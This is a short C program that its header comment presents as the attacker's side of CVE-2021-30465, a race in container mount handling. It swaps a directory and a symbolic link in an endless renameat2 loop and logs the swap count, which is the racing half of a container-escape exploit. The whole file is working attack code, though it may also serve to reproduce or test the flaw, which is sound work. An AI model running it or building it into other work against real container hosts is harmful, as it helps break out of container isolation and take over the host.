/*
 * CVE-2021-30465, the attacker's side: `exchange ONE OTHER COUNT` swaps the two names without end,
 * so that each is a directory or a link at any moment and never missing, and keeps the number of
 * swaps in the file COUNT.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int count = argc == 4 ? open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0644) : -1;

	if (count < 0) {
		fprintf(stderr, "usage: exchange ONE OTHER COUNT\n");
		return 2;
	}
	for (unsigned long n = 1;; n++) {
		char text[24];
		int length;

		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("exchange");
			return 1;
		}
		if (n % 100)
			continue;
		length = snprintf(text, sizeof(text), "%lu\n", n);
		if (pwrite(count, text, (size_t)length, 0) != length)
			return 1;
	}
}
